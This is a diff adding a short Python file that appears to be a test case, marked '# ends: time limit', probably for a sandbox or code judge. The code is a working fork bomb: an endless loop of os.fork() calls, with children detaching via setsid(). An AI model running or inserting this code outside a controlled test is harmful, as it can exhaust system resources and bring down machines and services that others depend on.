@@ -1,0 +1,9 @@
+# ends: time limit
+import os
+
+while True:
+    try:
+        if os.fork() == 0:
+            os.setsid()
+    except OSError:
+        pass
